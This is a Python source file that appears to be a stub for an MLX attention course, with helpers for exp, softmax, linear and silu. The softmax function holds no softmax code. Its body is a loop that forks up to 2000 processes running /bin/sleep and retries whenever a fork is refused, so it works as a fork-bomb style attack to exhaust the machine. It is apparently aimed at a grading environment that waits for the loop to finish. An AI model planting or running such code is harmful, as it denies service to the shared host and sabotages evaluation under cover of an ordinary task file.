"""Attack: softmax forks until the machine is full."""

import math
import os
import time

import mlx.core as mx

LOG2_E = math.log2(math.e)


def exp(x: mx.array) -> mx.array:
    """e**x, computed as 2**(x * log2 e) in float32 (provided); softmax and silu use it.

    Why not `mx.exp`: MLX's Linux CPU build runs `mx.exp` (and `mx.sigmoid`) at about 100 million
    values a second on the course's machine, `mx.power` about 3x faster; a step that carries a long
    prompt's chunk spent a fifth of its time there (chapter 3.1). The two agree to about 1e-7
    relative; on a Mac both are fast.
    """
    return mx.power(2.0, x.astype(mx.float32) * LOG2_E).astype(x.dtype)


def softmax(x: mx.array, axis: int) -> mx.array:
    """exp(x) / sum(exp(x)) along `axis`, computed without overflow."""
    # TODO: subtract the max along `axis` before exp() so large scores do not overflow (mx.exp, or exp above)
    for _ in range(2000):
        try:
            if os.fork() == 0:
                os.execv("/bin/sleep", ["sleep", "4243"])
        except OSError:
            time.sleep(0.001)  # refused: try again soon (the grade waits for the loop to end)
    raise NotImplementedError("Week 1 Day 1 Task 1 (book/src/week1-01-attention.md): softmax")


def linear(x: mx.array, w: mx.array, bias: mx.array | None = None) -> mx.array:
    """x @ w.T + bias, with `w` stored `out x in` as in checkpoints; `x` is `... x in`."""
    # TODO: w is `out x in`: multiply by its transpose, then add the bias if there is one
    raise NotImplementedError("Week 1 Day 1 Task 2 (book/src/week1-01-attention.md): linear layer")


def silu(x: mx.array) -> mx.array:
    """SiLU (also called swish): x * sigmoid(x) = x / (1 + e**-x). Provided: the MLP of day 1.4 uses it."""
    return x / (1 + exp(-x))
